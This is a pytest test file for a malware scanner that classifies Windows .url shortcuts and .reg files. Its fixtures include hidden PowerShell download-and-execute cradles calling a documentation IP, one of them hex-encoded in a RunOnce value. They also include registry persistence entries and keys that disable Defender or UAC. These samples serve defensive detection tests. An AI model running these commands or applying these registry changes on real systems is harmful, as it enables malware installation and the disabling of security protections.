"""Internet shortcuts (.url) and registry files (.reg), written as Windows writes them."""

from __future__ import annotations

import pytest
from conftest import rules_of

from filewall.analyze.shortcut_files import classify_target, parse_reg_file


def finding(report, rule: str):
    return next(item for item in report.findings if item.rule == rule)


def url_file(url: str, *extra: str) -> bytes:
    lines = [
        "[{000214A0-0000-0000-C000-000000000046}]",
        "Prop3=19,11",
        "[InternetShortcut]",
        "IDList=",
        f"URL={url}",
        *extra,
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


# -- .url ---------------------------------------------------------------------------------------------


def test_shortcut_to_a_program_on_the_web(scan):
    report = scan(url_file("http://192.0.2.7/files/发票.pdf.exe"), "发票.url")
    assert report.tree.kind == "url"
    shortcut = finding(report, "type.internet_shortcut")
    assert shortcut.params["target"] == "hxxp://192.0.2.7/files/发票.pdf.exe"
    assert "hxxp://192.0.2.7" in shortcut.message_zh and "发票.url" in shortcut.message_zh
    assert finding(report, "script.remote_executable").params["evidence"].endswith(".pdf.exe")
    assert report.verdict.value == "malicious"
    assert report.tree.info["url_file"]["url"] == "http://192.0.2.7/files/发票.pdf.exe"


@pytest.mark.parametrize(
    "url",
    [
        "file://192.0.2.5/share/invoice.exe",
        "file:////192.0.2.5/share/invoice.exe",
        "\\\\files.example.invalid@SSL\\DavWWWRoot\\orders\\list.url",
        "https://files.example.invalid/d/setup.msi?download=1",
    ],
    ids=["file-host", "file-unc", "webdav", "https-with-query"],
)
def test_shortcuts_to_programs_on_other_computers(scan, url):
    report = scan(url_file(url), "订单.url")
    assert {"type.internet_shortcut", "script.remote_executable"} <= rules_of(report)


@pytest.mark.parametrize(
    "url",
    [
        "file:///C:/Windows/System32/cmd.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "search-ms:query=invoice&crumb=location:\\\\192.0.2.5@80\\share&displayname=Invoices",
        "ms-msdt:/id PCWDiagnostic /skip force",
    ],
    ids=["local-cmd", "bare-path", "search-ms", "ms-msdt"],
)
def test_shortcuts_that_start_programs(scan, url):
    report = scan(url_file(url), "打开.url")
    assert "urlfile.runs_program" in rules_of(report)
    assert "不要打开" in finding(report, "urlfile.runs_program").message_zh


def test_javascript_shortcut_is_read_as_a_script(scan):
    url = "javascript:new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c iwr http://192.0.2.7/a.ps1|iex',0)"
    report = scan(url_file(url), "查看.url")
    assert {"urlfile.runs_program", "script.download_cradle", "script.hidden_window"} <= rules_of(report)


def test_icon_on_another_computer(scan):
    report = scan(
        url_file("https://shop.example.com/", "IconFile=\\\\192.0.2.5\\icons\\pdf.ico", "IconIndex=0"),
        "a.url",
    )
    assert finding(report, "urlfile.remote_icon").params["icon"] == "\\\\192.0.2.5\\icons\\pdf.ico"


def test_icon_borrowed_from_word(scan):
    icon = "IconFile=C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    report = scan(url_file("https://shop.example.com/", icon), "合同.url")
    assert "lnk.icon_disguise" in rules_of(report)


def test_ordinary_web_shortcut_is_only_worth_a_look(scan):
    icon = "IconFile=C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    report = scan(url_file("https://shop.example.com/item/123?color=red", icon), "商品链接.url")
    assert rules_of(report) - {"name.risky_extension"} == {"type.internet_shortcut"}
    assert (
        finding(report, "type.internet_shortcut").params["target"]
        == "hxxps://shop.example.com/item/123?color=red"
    )


def test_target_classification():
    assert classify_target("https://example.com/a.exe") == "remote_program"
    assert classify_target("https://example.com/") == "web"
    assert classify_target("https://example.com/page.html#x.exe") == "web"
    assert classify_target("file://localhost/C:/a.exe") == "local_program"
    assert classify_target("\\\\host\\share") == "remote"
    assert (
        classify_target("ms-appinstaller:?source=https://example.invalid/a.appinstaller") == "program_scheme"
    )


# -- .reg ------------------------------------------------------------------------------------------------

REG_RUN = """Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
"Management"="C:\\\\ProgramData\\\\Shine.exe"
"""


def test_run_key_in_a_regedit_export(scan):
    # regedit writes UTF-16LE with a BOM.
    report = scan(REG_RUN.replace("\n", "\r\n").encode("utf-16"), "设置.reg")
    assert report.tree.kind == "reg"
    assert {"type.registry_file", "script.autostart"} <= rules_of(report)
    quote = finding(report, "script.autostart").params["evidence"]
    assert "Run key" in quote and "Management" in quote and "C:\\ProgramData\\Shine.exe" in quote
    assert report.tree.info["reg_file"] == {"values": 1, "keys": 1}


def test_command_hidden_in_hex_data(scan):
    command = 'powershell -w hidden -c "iwr http://192.0.2.7/a.ps1 | iex"'
    data = ",".join(f"{byte:02x}" for byte in (command + "\0").encode("utf-16-le"))
    first, rest = data[:60], data[60:]
    reg = (
        "REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\r\n"
        f'"upd"=hex(2):{first}\\\r\n  {rest}\r\n'
    )
    report = scan(reg.encode(), "fix.reg")
    assert {"script.autostart", "script.hidden_window", "script.download_cradle"} <= rules_of(report)


@pytest.mark.parametrize(
    "key, value, rule",
    [
        (
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
            '"Debugger"="C:\\\\Windows\\\\System32\\\\cmd.exe"',
            "script.autostart",
        ),
        (
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
            '"Userinit"="C:\\\\Windows\\\\system32\\\\userinit.exe,C:\\\\ProgramData\\\\u.exe"',
            "script.autostart",
        ),
        (
            "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Termaintor",
            '"ImagePath"="C:\\\\Program Files\\\\RunTime\\\\RuntimeBroker.exe"',
            "script.autostart",
        ),
        (
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
            '"DisableAntiSpyware"=dword:00000001',
            "script.disables_security",
        ),
        (
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
            '"EnableLUA"=dword:00000000',
            "script.disables_security",
        ),
        (
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
            '"C:\\\\ProgramData"=dword:00000000',
            "script.disables_security",
        ),
        (
            "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
            '@="C:\\\\ProgramData\\\\u.exe"',
            "script.disables_security",
        ),
    ],
    ids=["ifeo", "winlogon", "service", "defender", "uac", "exclusion", "uac-bypass"],
)
def test_registry_keys_that_persist_or_disarm(scan, key, value, rule):
    report = scan(f"Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n".encode(), "x.reg")
    assert rule in rules_of(report)


@pytest.mark.parametrize(
    "body",
    [
        "[-HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
        '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"OldTool"=-\r\n',
        '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System]\r\n"EnableLUA"=dword:00000001\r\n',
        '[HKEY_CURRENT_USER\\Software\\ShopTool\\Settings]\r\n"Theme"="dark"\r\n"Startup"="no"\r\n',
    ],
    ids=["delete-key", "delete-value", "uac-on", "app-settings"],
)
def test_registry_files_that_only_change_harmless_settings(scan, body):
    report = scan(f"Windows Registry Editor Version 5.00\r\n\r\n{body}".encode(), "x.reg")
    assert "type.registry_file" in rules_of(report)
    assert not {rule for rule in rules_of(report) if rule.startswith("script.")}


def test_reg_parser_values_and_escapes():
    text = (
        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n@="default"\r\n'
        '"Quote \\"x\\""="C:\\\\a b\\\\c.exe"\r\n"Num"=dword:0000002a\r\n'
        '"Multi"=hex(7):61,00,00,00,62,00,00,00,00,00\r\n'
    )
    assert parse_reg_file(text) == [
        ("HKEY_CURRENT_USER\\Software\\A", "@", "default"),
        ("HKEY_CURRENT_USER\\Software\\A", 'Quote "x"', "C:\\a b\\c.exe"),
        ("HKEY_CURRENT_USER\\Software\\A", "Num", "dword:0000002a"),
        ("HKEY_CURRENT_USER\\Software\\A", "Multi", "a b"),
    ]


@pytest.mark.parametrize("url", ["http://[::1", "file://[x/a.exe", "hxxp://[", "", "javascript:", "\\\\"])
def test_malformed_targets_do_not_break_the_check(scan, url):
    report = scan(url_file(url), "坏.url")
    assert "scan.analyzer_failed" not in rules_of(report)
    assert "type.internet_shortcut" in rules_of(report)
